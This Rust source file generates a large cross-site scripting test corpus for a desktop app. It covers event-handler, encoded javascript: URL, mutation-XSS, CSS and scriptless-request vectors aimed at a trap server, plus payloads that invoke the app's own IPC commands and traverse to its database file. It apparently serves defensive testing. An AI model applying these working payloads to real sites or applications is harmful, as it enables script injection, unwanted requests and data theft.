//! A corpus of cross-site scripting vectors, generated here, for the test that opens every one of them
//! in the real window.
//!
//! It covers the families of the well-known filter-evasion and HTML5 lists, written out as combinations
//! rather than copied: every event handler on every element that can fire one, every attribute that
//! carries a URL with every way of spelling a script scheme, markup that parses differently the second
//! time (mutation XSS), CSS that runs or loads, requests a post could make without script, and calls
//! into the app's own IPC.
//!
//! A vector's payload does something the test can see: `alert(N)` (the window records pop-ups),
//! `top.__xss.push(N)` (a canary array), a navigation or a request to the trap server, or an IPC
//! command with side effects the cache would keep.

/// One vector: a name that says what it tries, and the post body.
pub struct Vector {
    pub name: String,
    pub html: String,
}

/// Elements given every event handler.
const TAGS: &[&str] = &[
    "a",
    "abbr",
    "address",
    "article",
    "aside",
    "audio",
    "b",
    "bdo",
    "blockquote",
    "body",
    "br",
    "button",
    "canvas",
    "caption",
    "code",
    "details",
    "dialog",
    "div",
    "dl",
    "em",
    "embed",
    "fieldset",
    "figure",
    "font",
    "footer",
    "form",
    "frameset",
    "h1",
    "header",
    "hr",
    "html",
    "i",
    "iframe",
    "img",
    "image",
    "input",
    "ins",
    "keygen",
    "label",
    "li",
    "link",
    "main",
    "map",
    "marquee",
    "menu",
    "meter",
    "nav",
    "object",
    "ol",
    "output",
    "p",
    "picture",
    "pre",
    "progress",
    "q",
    "s",
    "section",
    "select",
    "source",
    "span",
    "strong",
    "style",
    "sub",
    "summary",
    "svg",
    "table",
    "td",
    "textarea",
    "th",
    "time",
    "tr",
    "track",
    "u",
    "ul",
    "video",
    "xss",
];

/// Handlers, each with what makes it fire without a user (or with the least of one).
const HANDLERS: &[(&str, &str)] = &[
    ("onerror", "src=/missing.png"),
    ("onload", "src=/favicon.ico"),
    ("onfocus", "autofocus tabindex=1"),
    ("onfocusin", "autofocus tabindex=1"),
    ("onblur", "autofocus tabindex=1"),
    ("onmouseover", ""),
    ("onpointerenter", ""),
    ("onclick", ""),
    ("onanimationstart", "style=animation-name:spin"),
    ("ontransitionend", "style=transition:color+1s"),
    ("ontoggle", "open"),
    ("onbegin", "dur=1s attributeName=x"),
    ("onscroll", "style=overflow:auto;height:1px"),
    ("onpageshow", ""),
    ("onbeforeprint", ""),
    ("onstart", ""),
    ("oncontentvisibilityautostatechange", "style=content-visibility:auto"),
    ("onbeforetoggle", "popover id=p"),
];

/// Where a URL is read, as `tag attribute` with what else the element needs.
const URL_PLACES: &[(&str, &str, &str)] = &[
    ("a", "href", ">link</a"),
    ("area", "href", ""),
    ("img", "src", ""),
    ("img", "srcset", ""),
    ("img", "lowsrc", ""),
    ("img", "dynsrc", ""),
    ("iframe", "src", "></iframe"),
    ("frame", "src", ""),
    ("embed", "src", ""),
    ("object", "data", "></object"),
    ("form", "action", "><button>go</button></form"),
    ("button", "formaction", ">go</button"),
    ("input", "formaction", " type=submit"),
    ("input", "src", " type=image"),
    ("video", "poster", "></video"),
    ("video", "src", "></video"),
    ("audio", "src", "></audio"),
    ("source", "src", ""),
    ("track", "src", ""),
    ("link", "href", " rel=stylesheet"),
    ("base", "href", ""),
    ("table", "background", "><tr><td>x</td></tr></table"),
    ("blockquote", "cite", ">q</blockquote"),
    ("svg><a", "xlink:href", "><text y=20>x</text></a></svg"),
    ("svg><a", "href", "><text y=20>x</text></a></svg"),
    ("math", "href", "><mi>x</mi></math"),
    ("iframe", "srcdoc", "></iframe"),
    ("meta", "content", " http-equiv=refresh"),
];

/// Ways to write a script URL that filters have missed; `{P}` is the payload.
const SCRIPT_URLS: &[(&str, &str)] = &[
    ("plain", "javascript:{P}"),
    ("mixed case", "JaVaScRiPt:{P}"),
    ("tab inside", "java\tscript:{P}"),
    ("tab entity", "java&#x09;script:{P}"),
    ("newline entity", "java&#10;script:{P}"),
    ("carriage return entity", "java&#13;script:{P}"),
    ("leading control entity", " &#14; javascript:{P}"),
    ("decimal entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{P}"),
    (
        "padded decimal entities",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{P}",
    ),
    ("hex entities", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{P}"),
    ("named colon", "javascript&colon;{P}"),
    ("percent-encoded colon", "javascript%3A{P}"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("livescript", "livescript:{P}"),
    ("data html", "data:text/html,<script>{P}</script>"),
    ("data html base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data svg", "data:image/svg+xml,<svg onload={P}>"),
    ("data xhtml", "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>{P}</script></html>"),
    ("blob-like", "blob:javascript:{P}"),
];

/// Markup that a sanitizer and a browser may read differently, or that changes when parsed again.
/// `{P}` is the payload, `{T}` the trap server.
const MUTATIONS: &[(&str, &str)] = &[
    ("noscript title", "<noscript><p title=\"</noscript><img src=x onerror={P}>\"></noscript>"),
    ("template style", "<template><style></template><img src=x onerror={P}></style></template>"),
    ("style in svg", "<svg></p><style><a id=\"</style><img src=1 onerror={P}>\"></style></svg>"),
    ("math mglyph style", "<math><mtext><table><mglyph><style><img src=x onerror={P}>"),
    (
        "math malignmark",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror={P}>\"></style></h1>",
    ),
    ("form in form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={P}>"),
    (
        "select template",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror={P}>\">",
    ),
    ("comment close", "<!--><img src=x onerror={P}>-->"),
    ("comment bang", "<!--!><img src=x onerror={P}>-->"),
    ("comment in attribute", "<!--<img src=\"--><img src=x onerror={P}//\">"),
    ("cdata in svg", "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror={P}>\"></svg>"),
    ("cdata in html", "<![CDATA[><img src=x onerror={P}>]]>"),
    ("title raw text", "<title><img title=\"</title><img src=x onerror={P}>\"></title>"),
    ("textarea raw text", "<textarea><img title=\"</textarea><img src=x onerror={P}>\"></textarea>"),
    ("xmp raw text", "<xmp><img title=\"</xmp><img src=x onerror={P}>\"></xmp>"),
    ("iframe raw text", "<iframe><img title=\"</iframe><img src=x onerror={P}>\"></iframe>"),
    ("noembed raw text", "<noembed><img title=\"</noembed><img src=x onerror={P}>\"></noembed>"),
    ("noframes raw text", "<noframes><img title=\"</noframes><img src=x onerror={P}>\"></noframes>"),
    ("plaintext", "<plaintext><img src=x onerror={P}>"),
    ("style raw text", "<style><img title=\"</style><img src=x onerror={P}>\"></style>"),
    ("script in svg", "<svg><script>{P}</script></svg>"),
    ("script href in svg", "<svg><script href=\"{T}/s.js\"></script></svg>"),
    ("foreignObject", "<svg><foreignObject><img src=x onerror={P}></foreignObject></svg>"),
    (
        "svg animate href",
        "<svg><a><animate attributeName=href values=javascript:{P} /><text x=20 y=20>x</text></a></svg>",
    ),
    ("svg set href", "<svg><a><set attributeName=href to=javascript:{P} /><text x=20 y=20>x</text></a></svg>"),
    (
        "svg use data",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{P}'/></svg>#x\"/></svg>",
    ),
    ("svg handler on svg", "<svg onload={P}>"),
    ("svg animate onbegin", "<svg><animate onbegin={P} attributeName=x dur=1s>"),
    ("slash separators", "<img/src/onerror={P}>"),
    ("quote break", "<img src=\"x` `<script>{P}</script>\"` `>"),
    ("backtick value", "<img src=`x` onerror={P}>"),
    ("vertical tab", "<img src=x\x0bonerror={P}>"),
    ("form feed", "<img src=x\x0conerror={P}>"),
    ("null in tag", "<scr\u{0}ipt>{P}</scr\u{0}ipt>"),
    ("nested script", "<scr<script>ipt>{P}</scr</script>ipt>"),
    ("double open", "<<script>{P}//<</script>"),
    ("unclosed script", "<script>{P}"),
    ("script src", "<script src={T}/x.js></script>"),
    ("script type module", "<script type=module>{P}</script>"),
    ("utf-7", "+ADw-script+AD4-{P}+ADw-/script+AD4-"),
    ("isindex", "<isindex type=image src=1 onerror={P}>"),
    ("details open", "<details open ontoggle={P}>"),
    ("marquee", "<marquee onstart={P}>x</marquee>"),
    ("body onload", "<body onload={P}>"),
    ("frameset", "<frameset onload={P}>"),
    ("input autofocus", "<input onfocus={P} autofocus>"),
    ("video source onerror", "<video><source onerror={P}></video>"),
    ("object data html", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("embed script", "<embed src=javascript:{P}>"),
    ("meta refresh data", "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>{P}</script>\">"),
    (
        "meta charset",
        "<meta charset=x-imap4-modified-utf7>&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi",
    ),
    ("custom element focus", "<xss id=x tabindex=1 onfocusin={P} autofocus></xss>"),
    ("keyframes", "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationend={P}></xss>"),
    ("srcdoc", "<iframe srcdoc=\"&lt;img src=x onerror={P}&gt;\"></iframe>"),
    ("form action button", "<form><button formaction=javascript:{P}>x</button></form>"),
    ("a with target", "<a href=javascript:{P} target=_top>x</a>"),
    ("svg xlink", "<svg><a xlink:href=javascript:{P}><rect width=99 height=99 /></a></svg>"),
    ("math xlink", "<math><maction actiontype=statusline xlink:href=javascript:{P}>x</maction></math>"),
    ("dialog", "<dialog open onclose={P}><form method=dialog><button autofocus>x</button></form></dialog>"),
    ("popover", "<button popovertarget=p>x</button><div popover id=p onbeforetoggle={P}>y</div>"),
    ("base then link", "<base href=javascript:/a/><a href=../{P}>x</a>"),
    ("entity in handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("unicode escapes", "<img src=x onerror=\\u0061lert(1)>"),
    ("attribute without quotes end", "<img src=x onerror={P}//"),
    ("deep nesting", "<div><div><div><div><div><div><div><div><svg><g><g><g><foreignObject><img src=x onerror={P}>"),
    ("table foster", "<table><img src=x onerror={P}><tr><td>x</td></tr></table>"),
    ("option in select", "<select><option><img src=x onerror={P}></option></select>"),
    ("button in button", "<button><button onfocus={P} autofocus>x</button></button>"),
    (
        "namespace attribute",
        "<svg><a xmlns:xlink=http://www.w3.org/1999/xlink xlink:href=javascript:{P}><text y=9>x</text></a></svg>",
    ),
    ("xml namespace", "<html xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>{P}</x:script></html>"),
    ("portal", "<portal src={T}/portal></portal>"),
    ("template shadow", "<div><template shadowrootmode=open><img src=x onerror={P}></template></div>"),
    ("html import", "<link rel=import href={T}/import.html>"),
    ("iframe javascript", "<iframe src=\"javascript:{P}\"></iframe>"),
];

/// CSS that runs script in old engines, or loads from elsewhere in any.
const STYLES: &[(&str, &str)] = &[
    ("expression", "<div style=\"width:expression({P})\">x</div>"),
    ("url javascript", "<div style=\"background:url(javascript:{P})\">x</div>"),
    ("behavior", "<div style=\"behavior:url({T}/x.htc)\">x</div>"),
    ("moz binding", "<div style=\"-moz-binding:url({T}/x.xml#x)\">x</div>"),
    ("background trap", "<div style=\"background-image:url({T}/bg.png)\">x</div>"),
    ("escaped url", "<div style=\"background:\\75 rl({T}/escaped.png)\">x</div>"),
    ("import", "<style>@import url({T}/import.css);</style><p>x</p>"),
    ("font face", "<style>@font-face{font-family:x;src:url({T}/font.woff)}p{font-family:x}</style><p>x</p>"),
    ("style element background", "<style>body{background:url({T}/body.png)}</style><p>x</p>"),
    ("link stylesheet", "<link rel=stylesheet href={T}/sheet.css><p>x</p>"),
    ("comment in url", "<div style=\"background:url(/**/{T}/comment.png)\">x</div>"),
    ("image-set", "<div style=\"background:image-set(url({T}/set.png) 1x)\">x</div>"),
];

/// Markup that makes a request without any script: nothing of it may leave the window.
const REQUESTS: &[(&str, &str)] = &[
    ("prefetch", "<link rel=prefetch href={T}/prefetch>"),
    ("preload", "<link rel=preload as=image href={T}/preload.png>"),
    ("dns prefetch", "<link rel=dns-prefetch href={T}/>"),
    ("preconnect", "<link rel=preconnect href={T}/>"),
    ("ping", "<a href=https://example.org/ ping={T}/ping>x</a>"),
    ("iframe", "<iframe src={T}/frame></iframe>"),
    ("object", "<object data={T}/object></object>"),
    ("embed", "<embed src={T}/embed>"),
    ("meta refresh", "<meta http-equiv=refresh content=\"0;url={T}/refresh\">"),
    ("base and picture", "<base href={T}/base/><img src=relative.png>"),
    ("body background", "<body background={T}/body.png>"),
    ("table background", "<table background={T}/table.png><tr><td>x</td></tr></table>"),
    ("input image", "<input type=image src={T}/input.png>"),
    ("svg image", "<svg><image href={T}/svg-image.png width=9 height=9 /></svg>"),
    ("svg use", "<svg><use href={T}/use.svg#x /></svg>"),
    (
        "svg feImage",
        "<svg><filter id=f><feImage href={T}/feimage.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    ),
    ("video track", "<video src={T}/v.mp4><track src={T}/t.vtt></video>"),
    ("audio", "<audio src={T}/a.mp3 autoplay></audio>"),
    ("form autosubmit", "<form action={T}/form><input autofocus onfocus=this.form.submit()></form>"),
    ("srcset", "<img srcset=\"{T}/srcset.png 2x\">"),
    ("picture source", "<picture><source srcset={T}/source.png><img src=x.png></picture>"),
    ("poster", "<video poster={T}/poster.png></video>"),
    ("css in svg", "<svg><style>rect{fill:url({T}/fill.svg#p)}</style><rect width=9 height=9 /></svg>"),
    ("meta csp", "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src=x.png>"),
];

/// Calls into the app's IPC: each would leave a mark in the cache (a bookmark, a removed source, a
/// changed setting) if it ran.
const IPC: &[(&str, &str)] = &[
    ("internals invoke", "<img src=x onerror=\"__TAURI_INTERNALS__.invoke('set_bookmarked',{id:1,bookmarked:true})\">"),
    (
        "tauri core invoke",
        "<img src=x onerror=\"__TAURI__.core.invoke('set_sync_settings',{settings:{proxy:'http://127.0.0.1:9'}})\">",
    ),
    ("script invoke", "<script>window.__TAURI__.core.invoke('remove_source',{id:1})</script>"),
    ("svg invoke", "<svg onload=\"top.__TAURI_INTERNALS__.invoke('set_bookmarked',{id:2,bookmarked:true})\">"),
    ("fetch ipc", "<img src=x onerror=\"fetch('ipc://localhost/set_bookmarked',{method:'POST',body:'{}'})\">"),
    ("postMessage", "<img src=x onerror=\"top.postMessage({cmd:'set_bookmarked'},'*')\">"),
    ("ipc url", "<a href=\"ipc://localhost/remove_source\">x</a><img src=\"ipc://localhost/remove_source\">"),
    ("custom scheme picture", "<img src=\"offprint-img://localhost/../../offprint.sqlite3\">"),
];

/// Every vector, numbered from 1. `trap` is the base URL of the server no request may reach.
pub fn all(trap: &str) -> Vec<Vector> {
    let mut templates: Vec<(String, String)> = Vec::new();
    for tag in TAGS {
        for (handler, extra) in HANDLERS {
            let close = if matches!(*tag, "br" | "hr" | "img" | "image" | "input" | "embed" | "source" | "track") {
                String::new()
            } else {
                format!("x</{tag}>")
            };
            templates.push((format!("{handler} on {tag}"), format!("<{tag} {extra} {handler}={{P}}>{close}")));
        }
    }
    for (tag, attr, rest) in URL_PLACES {
        // A title is plain text: `<` in one would be read as markup.
        let place = format!("{} {attr}", tag.replace("><", " "));
        for (how, url) in SCRIPT_URLS {
            let value = url.replace('"', "&quot;");
            templates.push((format!("{how} URL in {place}"), format!("<{tag} {attr}=\"{value}\"{rest}>")));
        }
        templates.push((format!("trap URL in {place}"), format!("<{tag} {attr}=\"{{T}}/{attr}\"{rest}>")));
    }
    for (family, table) in [("mutation", MUTATIONS), ("style", STYLES), ("request", REQUESTS), ("ipc", IPC)] {
        for (name, html) in table {
            templates.push((format!("{family}: {name}"), html.to_string()));
        }
    }
    templates
        .into_iter()
        .enumerate()
        .map(|(i, (name, template))| {
            let n = i + 1;
            let payload = match n % 3 {
                0 => format!("alert({n})"),
                1 => format!("top.__xss.push({n})"),
                _ => format!("top.location=`{trap}/nav/{n}`"),
            };
            let html = template.replace("{P}", &payload).replace("{T}", trap);
            Vector {
                name: format!("XSS {n:04} {name}"),
                html: format!("<p>Vector {n}.</p>{html}<p>End of vector {n}.</p>"),
            }
        })
        .collect()
}
